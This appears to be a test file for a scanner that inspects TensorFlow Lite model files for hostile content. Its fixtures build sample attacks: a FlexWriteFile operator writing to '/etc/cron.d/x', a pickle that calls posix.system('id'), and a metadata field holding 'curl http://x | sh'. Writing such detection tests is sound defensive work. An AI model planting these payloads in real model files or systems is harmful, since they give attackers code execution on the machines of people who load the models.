import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { defaultLimits } from '#formats/limits';
import { bent } from '#formats/test-files/bent';
import { concat, utf8 } from '#formats/test-files/bytes';
import { makeFlatbuffer, makeTflite, operator, operatorCode, packedStrings, tensor } from '#formats/test-files/flatbuffer';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';

const custom = (name: string, more = {}) => makeTflite({ codes: [operatorCode(32, name)], operators: [operator(1, [0], [2], more)] });

test('a model is clean and told by its card', () => {
  const bytes = makeTflite();
  const scan = scanBytes(bytes);
  expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned', format: { kind: 'tflite' } });
  expect(scan.card).toMatchObject({
    framework: 'TensorFlow Lite',
    parameters: 8,
    elementTypes: { float32: 8 },
    inputs: [{ name: 'x', type: 'float32', shape: '[1, 4]' }],
    outputs: [{ name: 'y', type: 'float32', shape: '[1, 2]' }],
  });
  expect(scan.facts).toContainEqual({ label: 'Operators', value: 'FULLY_CONNECTED × 1' });
  expect(scan.coverage).toEqual([{ from: 0, to: bytes.length, state: 'parsed', what: 'graph' }]);
});

describe('operators', () => {
  test.each([
    'FlexWriteFile',
    'FlexReadFile',
    'FlexPyFunc',
    'FlexEagerPyFunc',
    'FlexMatchingFiles',
    'FlexDataServiceDatasetV4',
    'FlexImmutableConst',
  ])('%s is high', (name) => {
    expect(scanBytes(custom(name))).toMatchObject({ rules: ['MDL-TFL-001'], verdict: 'high' });
  });

  test('the files that a Flex operator names are shown', () => {
    const bytes = makeTflite({
      codes: [operatorCode(32, 'FlexWriteFile')],
      tensors: [tensor('path', [], 5, 2), tensor('text', [], 5, 3)],
      buffers: [{ 0: { bytes: packedStrings('/etc/cron.d/x') } }, { 0: { bytes: packedStrings('root id') } }],
      operators: [operator(1, [3, 4], [])],
    });
    expect(scanBytes(bytes).observations[0]?.evidence?.reconstruction).toBe('FlexWriteFile("/etc/cron.d/x", "root id")');
  });

  test('ordinary ones of TensorFlow are fine, printing into a file is not', () => {
    for (const name of ['FlexErf', 'FlexTensorListReserve', 'FlexStringSplit']) expect(scanBytes(custom(name)).rules).toEqual([]);
    expect(scanBytes(custom('FlexPrintV2')).rules).toEqual([]);
    expect(scanBytes(custom('FlexPrintV2', { 5: { bytes: utf8('output_stream file:///etc/x') } })).rules).toEqual(['MDL-TFL-001']);
  });

  test('custom ones are medium, published ones low, those that act by their name high', () => {
    expect(scanBytes(custom('MyMatMul')).verdict).toBe('medium');
    expect(scanBytes(custom('FlexMyMatMul')).verdict).toBe('medium');
    expect(scanBytes(custom('TFLite_Detection_PostProcess')).verdict).toBe('low');
    expect(scanBytes(custom('ShellExec')).verdict).toBe('high');
  });
});

describe('places', () => {
  test('buffers, options, tensors and codes outside the file or the model are high', () => {
    for (const bytes of [
      makeTflite({ buffers: [{ 1: { u64: 100_000 }, 2: { u64: 16 } }] }),
      makeTflite({ buffers: [{ 1: { u64: 8 }, 2: { u64: 2n ** 62n } }] }),
      makeTflite({ tensors: [tensor('t', [1], 0, 99)] }),
      makeTflite({ tensors: [tensor('t', [-7], 0, 0)] }),
      makeTflite({ tensors: [tensor('t', [64], 0, 1)] }),
      makeTflite({ operators: [operator(7, [0], [2])] }),
      makeTflite({ operators: [operator(0, [0, 99], [2])] }),
      makeTflite({ operators: [operator(0, [0], [2], { 9: { u64: 999_999 }, 10: { u64: 1 } })] }),
      makeTflite({ more: { 6: { tables: [{ 0: { text: 'm' }, 1: { u32: 77 } }] } } }),
    ])
      expect(scanBytes(bytes)).toMatchObject({ rules: ['MDL-TFL-003'], verdict: 'high' });
  });

  test('a root outside the file is high and unreadable', () => {
    expect(scanBytes(concat('\xff\xff\xff\x7f', 'TFL3', new Uint8Array(40)))).toMatchObject({
      rules: ['MDL-TFL-003'],
      outcome: 'unreadable',
    });
  });

  test('data behind the flatbuffer is read where it lies', () => {
    const bytes = makeTflite({ buffers: [{ 1: { u64: 2000 }, 2: { u64: 4096 } }], tensors: [tensor('big', [1024], 0, 2)] });
    const scan = scanBytes(concat(bytes, new Uint8Array(2000 - bytes.length), new Uint8Array(4096)));
    expect(scan.rules).toEqual([]);
    expect(scan.coverage).toContainEqual({ from: 2000, to: 6096, state: 'hashed', what: 'tensor data' });
  });
});

test('a subgraph that calls itself is high', () => {
  const loop = {
    0: { tables: [] },
    3: { tables: [operator(1, [], [], { 3: { u8: 1 }, 4: { table: { 0: { i32: 1 }, 1: { i32: 1 } } } })] },
  } as const;
  expect(scanBytes(makeTflite({ codes: [operatorCode(119)], subgraphs: [loop] })).rules).toEqual(['MDL-TFL-006']);
});

describe('what is attached', () => {
  const pickle = stream('', '0', reduce('posix', 'system', op.text('id')));

  test('an archive with labels is ordinary, a pickle in it is not', () => {
    const labels = concat(makeTflite(), makeZip([{ name: 'labels.txt', data: utf8('cat\ndog\n') }]));
    expect(scanBytes(labels)).toMatchObject({ verdict: 'clean', rules: [] });
    const hostile = concat(makeTflite(), makeZip([{ name: 'labels.txt', data: pickle }]));
    expect(scanBytes(hostile).verdict).toBe('critical');
  });

  test('a pickle in metadata is judged', () => {
    const bytes = makeTflite({ buffers: [{ 0: { bytes: pickle } }], more: { 6: { tables: [{ 0: { text: 'extra' }, 1: { u32: 2 } }] } } });
    expect(scanBytes(bytes).verdict).toBe('critical');
  });

  test('the statements of the metadata fill the card, and text in it that acts is told', () => {
    const stated = makeFlatbuffer(
      { 0: { text: 'Cats' }, 1: { text: 'curl http://x | sh' }, 4: { text: 'Somebody' }, 5: { text: 'Apache-2.0' } },
      'M001',
    );
    const bytes = makeTflite({
      buffers: [{ 0: { bytes: stated } }],
      more: { 6: { tables: [{ 0: { text: 'TFLITE_METADATA' }, 1: { u32: 2 } }] } },
    });
    const scan = scanBytes(bytes);
    expect(scan.card).toMatchObject({ name: 'Cats', author: 'Somebody', licence: 'Apache-2.0' });
    expect(scan.rules).toEqual(['MDL-TFL-005']);
  });
});

test('whatever is bent, a scan ends with a result that covers every byte', () => {
  const seed = makeTflite({
    codes: [operatorCode(32, 'FlexWriteFile')],
    operators: [operator(1, [0], [2])],
    buffers: [{ 0: { bytes: packedStrings('a') } }],
  });
  const limits = { ...defaultLimits, maxSteps: 500_000 };
  fc.assert(
    fc.property(bent(seed), (bytes) => (scanBytes(bytes, 'bent', limits).coverage.at(-1)?.to ?? 0) === bytes.length),
    { numRuns: 300, seed: 7 },
  );
});
